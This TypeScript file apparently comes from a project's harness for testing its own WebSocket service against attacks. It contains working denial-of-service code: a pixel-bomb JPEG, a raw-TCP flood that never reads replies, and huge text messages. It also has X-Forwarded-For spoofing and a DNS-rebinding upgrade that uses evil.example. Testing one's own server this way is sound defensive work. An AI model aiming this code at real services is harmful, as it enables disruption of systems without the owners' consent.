/**
 * Attacks over the live WebSocket (issue 10, items 1, 4, 5, 8 and the WebSocket parts of 9).
 * Each takes the target and bounds and returns what the attacker saw.
 */
import { randomBytes } from 'node:crypto';
import http from 'node:http';
import net from 'node:net';
import type WebSocket from 'ws';
import {
  type AttackResult,
  type Bounds,
  type Target,
  answerWithin,
  closedByServer,
  count,
  createRoom,
  hangUp,
  liveFrame,
  openSocket,
  recordSocket,
  sleep,
  wsBase,
} from './http.js';
import { pixelBombJpeg, sceneJpeg } from './media.js';

/**
 * 1. A publisher asks for `{size, steps}` (1024 by default: the protocol's maximum) and sends
 * one `width`×`height` JPEG (1820×1024, the scene of fixtures/draw.ts).
 */
export async function bigLiveFrame(
  target: Target,
  { size = 1024, steps = 2, width = 1820, height = 1024, ...bounds }: Bounds & { size?: number; steps?: number; width?: number; height?: number },
): Promise<AttackResult> {
  const answers = {};
  const room = await createRoom(target, `big-${size}-${randomBytes(3).toString('hex')}`);
  const jpeg = await sceneJpeg(width, height);
  const opened = await openSocket(room.publishUrl, { from: target.from });
  if ('refused' in opened) return { attack: `live config size ${size}`, answers: { [opened.refused]: 1 }, observed: {} };
  const { socket } = opened;
  recordSocket(socket, answers);
  socket.send(JSON.stringify({ type: 'config', size, steps }));
  const sentAt = performance.now();
  socket.send(liveFrame(1, jpeg));
  const stylized = new Promise<number>((resolve) => socket.once('message', function wait(_d, isBinary) {
    if (isBinary) resolve(performance.now() - sentAt);
    else socket.once('message', wait);
  }));
  const backAfterMs = await Promise.race([stylized, sleep(bounds.durationMs, bounds.signal).then(() => undefined)]);
  hangUp(socket);
  return {
    attack: `live config {size: ${size}, steps: ${steps}} + one ${width}×${height} JPEG`,
    answers,
    observed: { frameBytes: jpeg.length, stylizedFrameAfterMs: backAfterMs === undefined ? null : Math.round(backAfterMs) },
  };
}

/**
 * 4 (live). `publishers` publishers, each in its own room, send the 501-byte progressive JPEG
 * that claims 16383×16383, every `intervalMs` (latest frame wins keeps one waiting per stream).
 */
export async function pixelBombLive(
  target: Target,
  { publishers = 6, intervalMs = 500, ...bounds }: Bounds & { publishers?: number; intervalMs?: number },
): Promise<AttackResult> {
  const answers = {};
  const bomb = await pixelBombJpeg();
  const sockets: WebSocket[] = [];
  for (let i = 0; i < publishers; i++) {
    const room = await createRoom(target, `bomb-${i}-${randomBytes(3).toString('hex')}`);
    const opened = await openSocket(room.publishUrl, { from: target.from });
    if ('refused' in opened) {
      count(answers, opened.refused);
      continue;
    }
    recordSocket(opened.socket, answers);
    sockets.push(opened.socket);
  }
  let sent = 0;
  const timer = setInterval(() => {
    for (const socket of sockets) {
      if (socket.readyState !== socket.OPEN) continue;
      socket.send(liveFrame(sent, bomb));
      sent++;
    }
  }, intervalMs);
  await sleep(bounds.durationMs, bounds.signal);
  clearInterval(timer);
  for (const socket of sockets) hangUp(socket);
  return { attack: `${publishers} publishers send a ${bomb.length}-byte JPEG claiming 16383×16383`, answers, observed: { framesSent: sent, bombBytes: bomb.length } };
}

/**
 * 5. A viewer that sends `messages` one-byte text messages and never reads. A raw TCP client,
 * not `ws`: after the handshake it stops reading from the socket at all (nothing consumes the
 * kernel buffer, so the server's replies pile up on the server), and it writes pre-built masked
 * 7-byte frames in large batches, which costs the attacker nothing per message.
 */
export async function muteViewerFlood(
  target: Target,
  { messages = 2_000_000, room = 'mute-viewer', ...bounds }: Bounds & { messages?: number; room?: string },
): Promise<AttackResult> {
  const answers = {};
  const url = new URL(target.baseUrl);
  const socket = net.connect({ host: url.hostname, port: Number(url.port), ...(target.from ? { localAddress: target.from } : {}) });
  const deadline = performance.now() + bounds.durationMs;
  let serverClosed: string | undefined;
  socket.on('error', (e) => (serverClosed ??= (e as NodeJS.ErrnoException).code ?? e.message));
  socket.on('close', () => (serverClosed ??= 'closed'));
  const status = await new Promise<string>((resolve) => {
    let head = '';
    const onData = (chunk: Buffer): void => {
      head += chunk.toString('latin1');
      const end = head.indexOf('\r\n\r\n');
      if (end < 0) return;
      socket.off('data', onData);
      socket.pause(); // from here on nothing is ever read
      resolve(head.slice(0, head.indexOf('\r\n')));
    };
    socket.on('data', onData);
    socket.once('error', (e) => resolve((e as NodeJS.ErrnoException).code ?? e.message));
    socket.write(
      `GET /ws?room=${room}&role=view HTTP/1.1\r\nHost: ${url.host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
        `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\n\r\n`,
    );
  });
  count(answers, status.startsWith('HTTP/1.1 ') ? `WS upgrade ${status.split(' ')[1]}` : status);
  // FIN + text, MASK + length 1, a zero mask key, the byte "x".
  const frame = Buffer.from([0x81, 0x81, 0, 0, 0, 0, 0x78]);
  const batch = Buffer.concat(Array.from({ length: 10_000 }, () => frame));
  let written = 0;
  const started = performance.now();
  while (status.includes('101') && written < messages && performance.now() < deadline && !serverClosed && !bounds.signal?.aborted) {
    const n = Math.min(10_000, messages - written);
    const ok = socket.write(n === 10_000 ? batch : batch.subarray(0, n * frame.length));
    written += n;
    if (!ok) await Promise.race([new Promise((r) => socket.once('drain', r)), sleep(Math.max(0, deadline - performance.now()))]);
  }
  const writeMs = performance.now() - started;
  await sleep(Math.max(0, deadline - performance.now()), bounds.signal);
  if (serverClosed) count(answers, `server ended the connection (${serverClosed})`);
  socket.destroy();
  return {
    attack: `mute viewer sends ${messages} one-byte messages, never reads`,
    answers,
    observed: { messagesWritten: written, writeMs: Math.round(writeMs) },
  };
}

/**
 * 8. `connections` viewers from one address, each with its own X-Forwarded-For (distinct users
 * behind one reverse proxy or NAT), held open for the duration.
 */
export async function perAddressCap(target: Target, { connections = 40, ...bounds }: Bounds & { connections?: number }): Promise<AttackResult> {
  const answers = {};
  // All at once, as the users behind one NAT would be: each waits for its own handshake.
  const opened = await Promise.all(
    Array.from({ length: connections }, (_, i) =>
      openSocket(`${wsBase(target)}/ws?room=behind-nat&role=view`, {
        from: target.from,
        headers: { 'X-Forwarded-For': `203.0.113.${(i % 250) + 1}` },
        timeoutMs: answerWithin(bounds),
      }),
    ),
  );
  const sockets: WebSocket[] = [];
  for (const o of opened) {
    if ('refused' in o) count(answers, o.refused);
    else {
      count(answers, 'WS upgrade 101');
      sockets.push(o.socket);
    }
  }
  await sleep(bounds.durationMs, bounds.signal);
  for (const socket of sockets) hangUp(socket);
  return { attack: `${connections} WebSocket clients behind one address`, answers, observed: { opened: sockets.length, refused: connections - sockets.length } };
}

/**
 * 9. A ~`bytes` text message: from a viewer (not JSON), and from a publisher as a message whose
 * type, whose one unknown config key, or whose style name is that long. Records how long each error reply is and whether it echoes the input.
 */
export async function hugeTextMessage(target: Target, { bytes = 900_000, ...bounds }: Bounds & { bytes?: number }): Promise<AttackResult> {
  const answers = {};
  const filler = 'A'.repeat(bytes);
  const room = await createRoom(target, `huge-${randomBytes(3).toString('hex')}`);
  const replies: Record<string, number | null> = {};
  let echoes = false;
  const trySend = async (name: string, url: string, text: string): Promise<void> => {
    const opened = await openSocket(url, { from: target.from });
    if ('refused' in opened) return void count(answers, opened.refused);
    const { socket } = opened;
    const reply = new Promise<string | undefined>((resolve) => {
      socket.on('message', (data, isBinary) => {
        const message = isBinary ? '' : data.toString();
        if (message.includes('"error"')) resolve(message);
      });
      socket.once('close', (code) => {
        if (closedByServer(socket)) count(answers, `WS close ${code}`);
        resolve(undefined);
      });
    });
    socket.on('error', () => undefined);
    socket.send(text);
    const message = await Promise.race([reply, sleep(answerWithin(bounds), bounds.signal).then(() => undefined)]);
    replies[name] = message === undefined ? null : Buffer.byteLength(message);
    if (message) {
      count(answers, `WS error ${(JSON.parse(message) as { code?: string }).code}`);
      if (message.includes('A'.repeat(1000))) echoes = true;
    }
    hangUp(socket);
  };
  await trySend('viewerText', `${wsBase(target)}/ws?room=${room.room}&role=view`, filler);
  const long = filler.slice(0, bytes - 40);
  await trySend('publisherType', room.publishUrl, JSON.stringify({ type: long }));
  await trySend('publisherConfigKey', room.publishUrl, JSON.stringify({ type: 'config', [long]: 1 }));
  await trySend('publisherConfigStyle', room.publishUrl, JSON.stringify({ type: 'config', style: long }));
  return { attack: `a ${Math.round(bytes / 1000)} KB text message`, answers, observed: { replyBytes: replies, repliesEchoInput: echoes } };
}

/**
 * 9. DNS rebinding: a page on evil.example, after its name resolves to the server, opens the
 * WebSocket with Host and Origin both evil.example:PORT. The control sends the same Origin with
 * the server's real Host.
 */
export async function dnsRebinding(target: Target, bounds: Bounds): Promise<AttackResult> {
  const answers = {};
  const url = new URL(target.baseUrl);
  const evil = `evil.example:${url.port}`;
  const upgrade = (host: string, origin: string): Promise<string> =>
    new Promise((resolve) => {
      const req = http.request({
        host: url.hostname,
        port: url.port,
        path: '/ws?room=rebinding&role=view',
        ...(target.from ? { localAddress: target.from } : {}),
        headers: {
          Host: host,
          Origin: origin,
          Connection: 'Upgrade',
          Upgrade: 'websocket',
          'Sec-WebSocket-Key': randomBytes(16).toString('base64'),
          'Sec-WebSocket-Version': '13',
        },
      });
      const timer = setTimeout(() => {
        req.destroy();
        resolve('timeout');
      }, answerWithin(bounds));
      req.on('upgrade', (res, socket) => {
        clearTimeout(timer);
        socket.destroy();
        resolve(`WS upgrade ${res.statusCode}`);
      });
      req.on('response', (res) => {
        clearTimeout(timer);
        res.resume();
        resolve(`WS upgrade ${res.statusCode}`);
      });
      req.on('error', (e) => {
        clearTimeout(timer);
        resolve((e as NodeJS.ErrnoException).code ?? e.message);
      });
      req.end();
    });
  const rebinding = await upgrade(evil, `http://${evil}`);
  const control = await upgrade(url.host, `http://${evil}`);
  count(answers, `rebinding: ${rebinding}`);
  count(answers, `control (real Host): ${control}`);
  return { attack: 'DNS rebinding: Host and Origin both evil.example', answers, observed: { rebinding, control } };
}
